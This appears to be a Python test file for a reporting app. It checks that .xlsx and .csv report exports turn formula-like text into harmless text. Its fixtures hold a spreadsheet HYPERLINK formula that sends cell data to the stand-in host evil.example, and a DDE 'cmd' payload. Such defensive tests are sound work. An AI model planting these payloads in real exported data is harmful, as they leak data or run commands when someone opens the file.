"""Every .xlsx and .csv download of a compiled report writes formula-like text as text."""

from __future__ import annotations

import csv
import io

import openpyxl

from uptake.documents.actions import make_draft
from uptake.documents.tests.base import DocumentsTestCase
from uptake.test import TODAY
from uptake.units.models import Unit

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Xã Long Khánh A")'
EVIL_NOTE = "+cmd|' /C calc'!A0"
PAGE = "/c/bluezone-hong-ngu/compilations/2020-08-17/document."
API = "/api/v1/campaigns/bluezone-hong-ngu/compilations/2020-08-17/document."
RUNS = ("=", "+", "-", "@", "\t", "\r")


class ExportFormulasTestCase(DocumentsTestCase):
    def setUp(self):
        super().setUp()
        Unit.objects.filter(code="870-LKA").update(name=EVIL_NAME)
        self.submit("870-LKA", TODAY, note=EVIL_NOTE, activities={"broadcasts": 2})
        make_draft(self.campaign, TODAY, self.minh)
        self.client.force_login(self.hoa)  # a viewer reads the report (no second factor)

    def downloads(self, fmt: str):
        yield self.client.get(PAGE + fmt)
        yield self.client.get(API + fmt, **self.bearer(self.minh))

    def assert_no_cell_runs(self, values) -> None:
        for value in values:
            if isinstance(value, str):
                self.assertFalse(value.startswith(RUNS), f"{value!r} would run as a formula")

    def test_the_xlsx_holds_the_name_and_note_as_text(self):
        for response in self.downloads("xlsx"):
            self.assertEqual(response.status_code, 200)
            workbook = openpyxl.load_workbook(io.BytesIO(response.content))
            values = []
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        self.assertNotEqual(cell.data_type, "f", f"{sheet.title}!{cell.coordinate}")
                        values.append(cell.value)
            self.assert_no_cell_runs(values)
            self.assertIn("'" + EVIL_NAME, values)
            self.assertIn("'" + EVIL_NOTE, values)
            # Numbers stay numbers.
            self.assertTrue(any(isinstance(v, int) and v == 4000 for v in values))

    def test_the_csv_holds_the_name_and_note_as_text(self):
        for response in self.downloads("csv"):
            self.assertEqual(response.status_code, 200)
            rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
            cells = [cell for row in rows for cell in row]
            self.assert_no_cell_runs(cells)
            self.assertIn("'" + EVIL_NAME, cells)
            self.assertIn("'" + EVIL_NOTE, cells)
            self.assertIn("4000", cells)
